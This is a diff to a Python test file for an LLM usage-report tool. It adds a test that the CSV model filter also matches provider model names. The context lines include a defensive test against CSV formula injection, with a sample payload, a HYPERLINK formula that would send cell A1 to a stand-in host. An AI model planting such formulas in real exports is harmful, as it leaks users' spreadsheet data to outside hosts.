@@ -145,3 +145,13 @@ def test_csv_defuses_a_formula_and_ends_rows_in_crlf(tmp_path):
     assert header.startswith("timestamp,request_id,client,provider,model,provider_model,status,finish_reason,")
     assert ',"\'=HYPERLINK(""http://x/?""&A1,""open"")",' in row
     assert [r["finish_reason"] for r in csv.DictReader(io.StringIO(out))] == ['\'=HYPERLINK("http://x/?"&A1,"open")']
+
+
+def test_model_filter_matches_the_provider_model_too_as_the_analytics_api_does(tmp_path):
+    served = line("2026-11-23T10:05:00.000+01:00", rid="p") | {"provider_model": "gpt-4o-2024-08-06"}
+    (tmp_path / "usage.jsonl").write_text(json.dumps(served) + "\n")
+    config = parse_config(json.dumps({"providers": {}, "ledger": {"enabled": True, "path": "usage.jsonl"}}),
+                          tmp_path / "llms.json", {})
+    for model in ("gpt-4o", "gpt-4o-2024-08-06"):
+        out, _ = report(config, "csv", model=model)
+        assert [r["request_id"] for r in csv.DictReader(io.StringIO(out))] == ["p"]
